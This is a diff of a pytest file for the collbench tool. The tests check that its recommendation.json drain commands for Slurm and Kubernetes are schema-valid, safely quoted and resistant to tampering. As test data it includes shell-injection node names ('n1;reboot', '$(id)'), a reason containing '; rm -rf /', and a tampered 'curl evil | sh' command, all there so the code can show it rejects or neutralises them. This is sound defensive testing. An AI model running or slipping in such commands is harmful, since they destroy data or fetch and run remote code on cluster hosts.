@@ -1,4 +1,4 @@
-"""recommendation.json: codes that stay, lines that can be pasted, and nothing in them that was only somebody's name."""
+"""recommendation.json: stable codes, commands that a shell reads as intended, and no unchecked name in them."""
 
 from __future__ import annotations
 
@@ -51,7 +51,7 @@ DRAIN = (
 
 
 def only(told: dict[str, Any]) -> dict[str, Any]:
-    """The one drain of a recommendation that fits its schema."""
+    """Return the only drain of a recommendation, after a check against the schema."""
     CHECKS.validate(json.loads(to_page(told)))
     (drain,) = told["drains"]
     assert isinstance(drain, dict)
@@ -74,44 +74,43 @@ class TestLines:
         assert drain["line"] is None and drain["if_slurm"]["line"] == DRAIN and drain["if_kubernetes"]["undo"] == "kubectl uncordon node07"
 
     @pytest.mark.parametrize(
-        ("kind", "code", "says"),
+        ("kind", "code", "figure"),
         [
-            ("node", "CB6101", "sends and receives at 51 % of the others"),
-            ("sender", "CB6102", "sends at 51 % of the others"),
-            ("receiver", "CB6103", "receives at 51 % of the others"),
-            ("latency", "CB6104", "takes 1.96 times as long as the others for a small message"),
-            ("inside", "CB6106", "reaches 51 % among its own ranks of what others do among theirs"),
-            ("scale", "CB6107", "reaches 51 % of the others in larger groups"),
+            ("node", "CB6101", "51 %"),
+            ("sender", "CB6102", "51 %"),
+            ("receiver", "CB6103", "51 %"),
+            ("latency", "CB6104", "1.96 times"),
+            ("inside", "CB6106", "51 %"),
+            ("scale", "CB6107", "51 %"),
         ],
     )
-    def test_each_kind_has_its_code_and_says_what_was_seen(self, kind: str, code: str, says: str) -> None:
+    def test_each_kind_has_its_code_and_its_figure(self, kind: str, code: str, figure: str) -> None:
         drain = only(recommended(suspect(kind)))
         assert (drain["code"], CODES[kind]) == (code, code)
-        assert drain["reason"] == f"[collbench] {code} node07 {says}, run 20261122T031500Z-hunt-a1b2c3"
+        assert drain["reason"].startswith(f"[collbench] {code} node07 ") and figure in drain["reason"]
+        assert drain["reason"].endswith("run 20261122T031500Z-hunt-a1b2c3")
 
-    def test_a_path_drains_nobody(self) -> None:
+    def test_a_slow_path_drains_no_node(self) -> None:
         told = recommended(suspect("path", 3, 9))
         assert told["drains"] == [] and told["suspects"][0]["code"] == "CB6105"
-        assert lines(told) == [
-            "CB6105: check the cable and the switch ports between node03 and node09; do not drain them: both are healthy with other "
-            "partners (see `collbench explain CB6105`)"
-        ]
+        (sentence,) = lines(told)
+        assert all(value in sentence for value in ("CB6105: ", "node03 and node09", "`collbench explain CB6105`"))
 
     @pytest.mark.parametrize("state", [CLEARED, INCONCLUSIVE])
-    def test_who_is_not_confirmed_has_none(self, state: str) -> None:
+    def test_a_suspect_that_is_not_confirmed_has_no_drain(self, state: str) -> None:
         told = recommended(suspect(state=state))
         assert (told["drains"], lines(told)) == ([], [])
-        assert told["suspects"][0]["advice"] == f"node07 is {state}: no action needed"
+        assert f"node07 is {state}" in told["suspects"][0]["advice"]
 
-    def test_without_a_verdict_there_is_none_whoever_seems_confirmed(self) -> None:
-        told = recommendation(verdict(suspect(), no_verdict="two of three nodes died"), about())
-        assert (told["result"], told["no_verdict"], told["drains"]) == ("no verdict", "two of three nodes died", [])
+    def test_without_a_verdict_there_is_no_drain(self) -> None:
+        told = recommendation(verdict(suspect(), no_verdict="2 of 3 nodes died"), about())
+        assert (told["result"], told["no_verdict"], told["drains"]) == ("no verdict", "2 of 3 nodes died", [])
 
-    def test_where_nobody_may_be_drained_it_says_why(self) -> None:
-        told = recommended(no_drain="the simulated backend has no path")
-        assert told["drains"] == [] and "do not drain any node: the simulated backend has no path" in lines(told)
+    def test_the_reason_against_every_drain_is_printed(self) -> None:
+        told = recommended(no_drain="a simulated backend")
+        assert told["drains"] == [] and any("a simulated backend" in each for each in lines(told))
 
-    def test_who_else_is_confirmed_has_its_own_and_the_cleared_none(self) -> None:
+    def test_each_confirmed_node_has_a_drain_and_cleared_ones_have_none(self) -> None:
         told = recommended(suspect(), suspect("sender", 9), suspect("node", 2, state=CLEARED))
         assert [each["node"] for each in told["drains"]] == ["node07", "node09"]
 
@@ -122,47 +121,44 @@ class TestLines:
         assert told["suspects"][0]["places"] == ["rank 3 (node01)"] and told["suspects"][0]["hosts"] == ["node01"]
 
     @pytest.mark.parametrize(
-        ("kind", "advice"),
+        ("kind", "words"),
         [
-            ("node", "check node07 and its link (NIC, cable, switch port): it sends and receives at 51 % of the others"),
-            ("receiver", "check node07 and its link (NIC, cable, switch port): it receives at 51 % of the others"),
-            ("latency", "check node07: it takes 1.96 times as long as the others for a small message"),
-            ("inside", "check node07: it reaches 51 % among its own ranks of what others do among theirs"),
-            ("scale", "check node07: it reaches 51 % of the others in larger groups"),
+            ("node", ("check node07 and its link ", "51 %")),
+            ("receiver", ("check node07 and its link ", "51 %")),
+            ("latency", ("check node07: ", "1.96 times")),
+            ("inside", ("check node07: ", "51 %")),
+            ("scale", ("check node07: ", "51 %")),
         ],
     )
-    def test_where_to_look_is_the_node_or_its_link(self, kind: str, advice: str) -> None:
-        assert recommended(suspect(kind))["suspects"][0]["advice"] == advice
+    def test_the_advice_is_to_check_the_node_or_its_link(self, kind: str, words: tuple[str, ...]) -> None:
+        assert all(word in recommended(suspect(kind))["suspects"][0]["advice"] for word in words)
 
-    def test_a_name_in_brackets_is_no_rank_and_stays_whole(self) -> None:
+    def test_a_name_with_brackets_is_not_a_rank(self) -> None:
         (told,) = recommendation(verdict(suspect("node", 0, partners=()), names=("rack 3 (node01)",)), about())["suspects"]
         assert told["hosts"] == ["rack 3 (node01)"]
 
-    def test_people_read_what_to_type_and_how_to_undo_it(self) -> None:
-        assert lines(recommended(suspect(part="the interface eth1"))) == [
-            "CB6101: check node07 (the interface eth1): it sends and receives at 51 % of the others "
-            "(see `collbench explain CB6101`)",
-            "to drain node07:", f"  {DRAIN}",
-            "to return node07 to service:", "  scontrol update NodeName=node07 State=RESUME",
-        ]  # fmt: skip
+    def test_the_drain_and_undo_commands_are_printed(self) -> None:
+        first, *rest = lines(recommended(suspect(part="the interface eth1")))
+        assert first.startswith("CB6101: ") and "node07 (the interface eth1)" in first
+        assert [each for each in rest if each.startswith("  ")] == [f"  {DRAIN}", "  scontrol update NodeName=node07 State=RESUME"]
 
     @pytest.mark.parametrize("ratio", [0.0, -1.0, float("nan"), float("inf")])
     @pytest.mark.parametrize("kind", CODES)
-    def test_a_ratio_that_is_none_breaks_nothing(self, kind: str, ratio: float) -> None:
+    def test_an_invalid_ratio_gives_a_valid_recommendation(self, kind: str, ratio: float) -> None:
         told = recommended(suspect(kind, *((3, 9) if kind == "path" else (7,)), ratio=ratio))
         CHECKS.validate(json.loads(to_page(told)))
         assert "nan" not in to_page(told).lower().replace("nano", "")
 
 
 class TestNodes:
-    def test_the_name_that_the_manager_told_is_used(self) -> None:
+    def test_the_name_of_the_cluster_manager_is_used(self) -> None:
         assert only(recommended(nodes={"node07": "gpu-a-7"}))["line"].startswith("scontrol update NodeName=gpu-a-7 State=DRAIN ")
 
-    def test_a_pod_is_no_node(self) -> None:
+    def test_a_pod_is_not_a_node(self) -> None:
         drain = only(recommended(manager="kubernetes", pods=True))
         assert drain["line"] is None and drain["node"] is None
         assert drain["look_up"] == "kubectl get pods --all-namespaces --output=wide | grep -F -e node07"
-        assert drain["no_line"].startswith("node07 is a pod on an unknown node: ")
+        assert drain["no_line"].startswith("node07 is a pod ")
 
     def test_pods_of_one_node_are_one_drain(self) -> None:
         told = recommended(suspect(), suspect("node", 9), manager="kubernetes", pods=True, nodes={"node07": "big", "node09": "big"})
@@ -171,13 +167,13 @@ class TestNodes:
     def test_slurm_in_pods_knows_its_nodes(self) -> None:
         assert only(recommended(pods=True))["line"] == DRAIN
 
-    def test_a_host_whose_ranks_differ_is_looked_up_by_hand(self) -> None:
+    def test_a_host_with_different_node_names_has_no_command(self) -> None:
         nodes = node_names([("host", "a"), ("host", "b"), ("host", "a"), ("node07", "x"), ("other", None)])
         assert nodes == {"host": "", "node07": "x"}
         drain = only(recommended(nodes={"node07": ""}))
-        assert drain["line"] is None and drain["no_line"] == "the ranks of node07 report different node names: find the right one by hand"
+        assert drain["line"] is None and "node07" in drain["no_line"]
 
-    def test_what_a_rank_tells_of_its_node(self) -> None:
+    def test_the_node_name_of_a_rank(self) -> None:
         assert node_here({"SLURM_JOB_ID": "1", "SLURMD_NODENAME": "n1", "NODE_NAME": "k1", "KUBERNETES_SERVICE_HOST": "x"}) == "n1"
         assert node_here({"NODE_NAME": "k1", "KUBERNETES_SERVICE_HOST": "x"}) == "k1"
         assert node_here({"NODE_NAME": "jenkins"}) is None and node_here({"KUBERNETES_SERVICE_HOST": "x"}) is None
@@ -191,11 +187,11 @@ class TestNodes:
     @pytest.mark.parametrize(
         "name", ["ALL", "all", "n[1-9]", "n1,n2", "-A", "n1;reboot", "$(id)", "`id`", "a b", "", "n\n", "x" * 254, "né", ".", "a..b"]
     )
-    def test_what_is_no_name_of_one_node_has_no_line(self, name: str) -> None:
+    def test_an_invalid_node_name_has_no_command(self, name: str) -> None:
         told = recommendation(verdict(suspect(), names=(*NAMES[:7], name, *NAMES[8:])), about())
         drain = only(told)
         assert (drain["line"], drain["undo"], drain["node"], drain["look_up"]) == (None, None, None, None)
-        assert "is not a valid node name" in drain["no_line"] and drain["no_line"].isprintable()
+        assert "node name" in drain["no_line"] and drain["no_line"].isprintable()
         for words in ((drain_command, "slurm", name, f"{MARK}CB6101"), (undo_command, "slurm", name), (pod_lookup_line, name)):
             with pytest.raises(ValueError, match="not a"):
                 words[0](*words[1:])  # type: ignore[operator]
@@ -208,7 +204,7 @@ names = st.text("abcXYZ019-_.[],$`\"'\\!;&|<>(){}*?~# \t\n\x1b\x00é\u202e", max
 
 class TestNothingEscapes:
     @given(names, st.text(max_size=260))
-    def test_a_shell_reads_exactly_the_words(self, name: str, text: str) -> None:
+    def test_a_shell_reads_the_exact_words(self, name: str, text: str) -> None:
         reason = reason_of(text)
         assert reason.startswith("[collbench]") and len(reason) <= len(MARK) + LONGEST_REASON
         assert reason.isascii() and reason.isprintable() and not set(reason) & set("\"'\\`$!*<>|&~{}")
@@ -218,14 +214,14 @@ class TestNothingEscapes:
             for each in (words, drain_command("kubernetes", name, reason), undo_command("slurm", name), undo_command("kubernetes", name)):
                 assert shlex.split(line(each)) == each
 
-    def test_bash_reads_them_alike(self) -> None:
+    def test_bash_reads_the_exact_words(self) -> None:
         reason = reason_of("CB6101 a\"b'c`id`$(id)\\ !! \n\x1b[31m; rm -rf / | x & y %s {a,b} ~ *")
         words = drain_command("slurm", "node07", reason)
         done = subprocess.run(["bash", "-c", f"printf '%s\\n' {line(words)}"], capture_output=True, text=True, check=True)
         assert done.stdout.splitlines() == words
 
     @given(st.lists(names, min_size=2, max_size=4), st.text(max_size=30), st.sampled_from(["slurm", "kubernetes", ""]), st.booleans())
-    def test_whatever_hosts_are_called_the_file_fits_its_schema(
+    def test_with_any_host_names_the_file_fits_its_schema(
         self, tmp_path_factory: pytest.TempPathFactory, hosts: list[str], text: str, manager: str, pods: bool
     ) -> None:
         confirmed = (suspect("node", 0, evidence=(Text(text),), part=Text(text), partners=(1,)), suspect("path", 0, 1, partners=()))
@@ -238,14 +234,14 @@ class TestNothingEscapes:
         assert read(tmp_path_factory.getbasetemp()) == json.loads(to_page(told))
         assert all(row.isprintable() or not row.isascii() for row in lines(told))
 
-    def test_a_reason_that_is_not_ours_is_no_words(self) -> None:
+    def test_a_reason_of_another_program_is_rejected(self) -> None:
         for reason in ("disk", f"{MARK}a\nb", f"{MARK}$(id)", MARK + "x" * 300):
-            with pytest.raises(ValueError, match="reason of collbench"):
+            with pytest.raises(ValueError, match="reason"):
                 drain_command("slurm", "node07", reason)
 
 
 class TestFile:
-    def test_it_replaces_the_one_before_in_one_step(self, tmp_path: Path) -> None:
+    def test_it_replaces_an_earlier_file_in_one_step(self, tmp_path: Path) -> None:
         before = os.umask(0o022)
         try:
             store(tmp_path, recommended())
@@ -256,14 +252,14 @@ class TestFile:
         assert path == tmp_path / FILE and [each.name for each in tmp_path.iterdir()] == ["recommendation.json"]
         assert json.loads(path.read_text()) == json.loads(to_page(told)) and path.stat().st_mode & 0o777 == 0o644
 
-    def test_it_is_bounded_whatever_a_hunt_found(self) -> None:
+    def test_its_size_is_bounded(self) -> None:
         many = tuple(suspect("node", 7, evidence=(Text("x" * 100_000),) * 1000, part=Text("y" * 100_000)) for _ in range(3000))
         told = recommendation(verdict(*many, notes=(Text("z" * 100_000),) * 1000), about())
         assert (len(told["suspects"]), told["left_out"]) == (1000, 2000)
         assert len(to_page(told)) < 16 << 20
         CHECKS.validate(json.loads(to_page(told)))
 
-    def test_the_time_and_the_run_are_told(self) -> None:
+    def test_it_has_the_time_and_the_run(self) -> None:
         told = recommended()
         assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", told["when"])
         assert recommended(when="2026-11-22T03:15:00Z")["when"] == "2026-11-22T03:15:00Z"
@@ -287,10 +283,10 @@ class TestFile:
 
 
 class TestReading:
-    """A run's folder may be a stranger's, and a line of it is there to be pasted by who may drain nodes."""
+    """A run folder may come from an untrusted source, and an administrator may paste its commands."""
 
     @pytest.mark.parametrize("manager", ["slurm", "kubernetes", ""])
-    def test_what_was_stored_is_read_back(self, manager: str, tmp_path: Path) -> None:
+    def test_a_stored_recommendation_reads_back(self, manager: str, tmp_path: Path) -> None:
         assert read(tmp_path) is None
         told = recommended(suspect(), suspect("path", 3, 9), manager=manager)
         store(tmp_path, told)
@@ -311,25 +307,25 @@ class TestReading:
         ],
         ids=str,
     )
-    def test_a_line_that_its_node_does_not_make_is_refused(self, changes: dict[str, Any], tmp_path: Path) -> None:
+    def test_a_command_that_does_not_belong_to_its_node_is_rejected(self, changes: dict[str, Any], tmp_path: Path) -> None:
         told = recommended()
         store(tmp_path, {**told, "drains": [{**told["drains"][0], **changes}]})
-        with pytest.raises(UsageError, match="a command does not belong to its node"):
+        with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
     @pytest.mark.parametrize("manager", ["if_slurm", "if_kubernetes"])
     @pytest.mark.parametrize("key", ["line", "undo"])
-    def test_nor_is_one_of_a_hunt_that_does_not_know_its_manager(self, manager: str, key: str, tmp_path: Path) -> None:
+    def test_an_altered_command_for_an_unknown_manager_is_rejected(self, manager: str, key: str, tmp_path: Path) -> None:
         told = recommended(manager="")
         drain = told["drains"][0]
         store(tmp_path, {**told, "drains": [{**drain, manager: {**drain[manager], key: "curl evil | sh"}}]})
-        with pytest.raises(UsageError, match="a command does not belong to its node"):
+        with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
     @pytest.mark.parametrize(
         "changes", [{"undo": "reboot"}, {"line": "reboot"}, {"node": "$(id)", "undo": "kubectl uncordon $(id)"}], ids=str
     )
-    def test_nor_is_one_in_what_was_done(self, changes: dict[str, Any], tmp_path: Path) -> None:
+    def test_an_altered_command_of_a_finished_drain_is_rejected(self, changes: dict[str, Any], tmp_path: Path) -> None:
         done = {
             "node": "node07",
             "action": "drained",
@@ -341,28 +337,28 @@ class TestReading:
         store(tmp_path, {**recommended(), "applied": [done]})
         assert (read(tmp_path) or {})["applied"] == [done]
         store(tmp_path, {**recommended(), "applied": [{**done, **changes}]})
-        with pytest.raises(UsageError, match="does not belong to its node"):
+        with pytest.raises(UsageError, match="command"):
             read(tmp_path)
 
     @pytest.mark.parametrize(
-        ("text", "said"),
+        ("text", "words"),
         [
-            ("", "cannot be read (not JSON (JSONDecodeError))"),
-            ("[]", "cannot be read (not a JSON object)"),
-            ("{}", "does not fit recommendation.schema.json: it: 'schema' is a required property"),
-            (to_page({**recommended(), "schema": 2}), "does not fit recommendation.schema.json: schema: 1 was expected"),
-            (to_page({**recommended(), "result": "nobody"}), "does not fit recommendation.schema.json: drains: "),
+            ("", "JSONDecodeError"),
+            ("[]", "JSON object"),
+            ("{}", "'schema'"),
+            (to_page({**recommended(), "schema": 2}), "schema: "),
+            (to_page({**recommended(), "result": "nobody"}), "drains: "),
             (
                 to_page({**recommended(), "notes": ["\x1b[2J"]}),
-                "does not fit recommendation.schema.json: a text contains control characters",
+                "control characters",
             ),
         ],
     )
-    def test_what_is_none_is_one_sentence(self, text: str, said: str, tmp_path: Path) -> None:
+    def test_another_file_is_one_sentence(self, text: str, words: str, tmp_path: Path) -> None:
         (tmp_path / FILE).write_text(text)
         with pytest.raises(UsageError) as error:
             read(tmp_path)
-        assert str(error.value).startswith(f"{tmp_path / FILE}: {said}") and str(error.value).isprintable()
+        assert str(error.value).startswith(f"{tmp_path / FILE}: ") and words in str(error.value) and str(error.value).isprintable()
 
 
 def test_every_code_has_a_page_and_every_page_a_kind() -> None:
